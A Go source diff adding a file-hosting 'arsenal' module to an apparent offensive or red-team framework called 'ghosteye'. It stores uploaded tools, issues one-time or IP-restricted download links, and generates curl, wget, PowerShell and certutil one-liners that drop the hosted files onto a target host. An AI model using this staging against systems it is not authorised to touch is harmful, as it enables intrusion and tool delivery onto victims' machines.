@@ -0,0 +1,172 @@
+package arsenal
+
+import (
+	"crypto/sha256"
+	"encoding/hex"
+	"fmt"
+	"io"
+	"net"
+	"net/url"
+	"os"
+	"path"
+	"path/filepath"
+	"strings"
+	"time"
+
+	"ghosteye/database"
+	"ghosteye/models"
+	"ghosteye/utils"
+)
+
+// Dir 托管文件的保存目录
+const Dir = "./arsenal"
+
+// SaveFile 保存上传的工具文件及其元数据
+func SaveFile(username, name, osName, arch, description string, r io.Reader) (*models.ArsenalFile, error) {
+	name = path.Base(strings.ReplaceAll(name, "\\", "/"))
+	if name == "" || name == "." || name == "/" {
+		return nil, fmt.Errorf("Invalid file name")
+	}
+
+	if err := os.MkdirAll(Dir, 0700); err != nil {
+		return nil, fmt.Errorf("Failed to create arsenal directory: %v", err)
+	}
+
+	// 本地文件名使用随机值，避免与上传的文件名冲突
+	localPath := filepath.Join(Dir, utils.GenerateSessionID())
+	out, err := os.OpenFile(localPath, os.O_CREATE|os.O_EXCL|os.O_WRONLY, 0600)
+	if err != nil {
+		return nil, fmt.Errorf("Failed to create arsenal file: %v", err)
+	}
+	hash := sha256.New()
+	size, err := io.Copy(io.MultiWriter(out, hash), r)
+	out.Close()
+	if err != nil {
+		os.Remove(localPath)
+		return nil, fmt.Errorf("Failed to write arsenal file: %v", err)
+	}
+
+	file := &models.ArsenalFile{
+		Username:    username,
+		Name:        name,
+		Path:        localPath,
+		Size:        size,
+		SHA256:      hex.EncodeToString(hash.Sum(nil)),
+		OS:          osName,
+		Arch:        arch,
+		Description: description,
+	}
+	id, err := database.AddArsenalFile(file)
+	if err != nil {
+		os.Remove(localPath)
+		return nil, err
+	}
+
+	return database.GetArsenalFile(id)
+}
+
+// DeleteFile 删除用户的托管文件
+func DeleteFile(username string, id int64) error {
+	file, err := database.GetArsenalFile(id)
+	if err != nil {
+		return err
+	}
+	if file == nil || file.Username != username {
+		return fmt.Errorf("Arsenal file %d does not exist or does not belong to user %s", id, username)
+	}
+
+	if err := database.DeleteArsenalFile(username, id); err != nil {
+		return err
+	}
+	if err := os.Remove(file.Path); err != nil && !os.IsNotExist(err) {
+		return fmt.Errorf("Failed to remove arsenal file: %v", err)
+	}
+	return nil
+}
+
+// CreateLink 为用户的托管文件创建随机下载链接。
+// ttl为0时不过期；allowedIPs可以是IP或CIDR，为空时不限制来源
+func CreateLink(username string, fileID int64, oneTime bool, ttl time.Duration, allowedIPs []string) (*models.ArsenalLink, *models.ArsenalFile, error) {
+	file, err := database.GetArsenalFile(fileID)
+	if err != nil {
+		return nil, nil, err
+	}
+	if file == nil || file.Username != username {
+		return nil, nil, fmt.Errorf("Arsenal file %d does not exist or does not belong to user %s", fileID, username)
+	}
+
+	allowed := make([]string, 0, len(allowedIPs))
+	for _, entry := range allowedIPs {
+		entry = strings.TrimSpace(entry)
+		if entry == "" {
+			continue
+		}
+		if _, _, err := net.ParseCIDR(entry); err != nil && net.ParseIP(entry) == nil {
+			return nil, nil, fmt.Errorf("Invalid IP or CIDR: %s", entry)
+		}
+		allowed = append(allowed, entry)
+	}
+
+	link := &models.ArsenalLink{
+		Token:      utils.GenerateSessionID(),
+		FileID:     fileID,
+		Username:   username,
+		OneTime:    oneTime,
+		AllowedIPs: allowed,
+	}
+	if ttl > 0 {
+		link.ExpiresAt = time.Now().Add(ttl).Unix()
+	}
+	if err := database.AddArsenalLink(link); err != nil {
+		return nil, nil, err
+	}
+	if link, err = database.GetArsenalLink(link.Token); err != nil {
+		return nil, nil, err
+	}
+
+	return link, file, nil
+}
+
+// LinkURL 返回下载链接的完整地址，文件名附加在令牌之后便于下载工具保存
+func LinkURL(baseURL string, link *models.ArsenalLink, file *models.ArsenalFile) string {
+	return strings.TrimRight(baseURL, "/") + "/" + link.Token + "/" + url.PathEscape(file.Name)
+}
+
+// OneLiners 生成下载到目标主机的命令，dest为空时Linux保存到/tmp，Windows保存到%TEMP%
+func OneLiners(fileURL string, file *models.ArsenalFile, dest string) map[string]string {
+	unixDest, winDest := dest, dest
+	if dest == "" {
+		unixDest = "/tmp/" + file.Name
+		winDest = `$env:TEMP\` + file.Name
+	}
+	cmdDest := strings.ReplaceAll(winDest, `$env:TEMP`, `%TEMP%`)
+
+	return map[string]string{
+		"curl":     fmt.Sprintf("curl -fsSLo '%s' '%s'", unixDest, fileURL),
+		"wget":     fmt.Sprintf("wget -qO '%s' '%s'", unixDest, fileURL),
+		"iwr":      fmt.Sprintf(`iwr -UseBasicParsing -Uri '%s' -OutFile "%s"`, fileURL, winDest),
+		"certutil": fmt.Sprintf(`certutil -urlcache -split -f "%s" "%s"`, fileURL, cmdDest),
+	}
+}
+
+// allowedIP 判断来源IP是否在允许列表中
+func allowedIP(allowed []string, remoteIP string) bool {
+	if len(allowed) == 0 {
+		return true
+	}
+
+	ip := net.ParseIP(remoteIP)
+	if ip == nil {
+		return false
+	}
+	for _, entry := range allowed {
+		if _, network, err := net.ParseCIDR(entry); err == nil {
+			if network.Contains(ip) {
+				return true
+			}
+		} else if other := net.ParseIP(entry); other != nil && other.Equal(ip) {
+			return true
+		}
+	}
+	return false
+}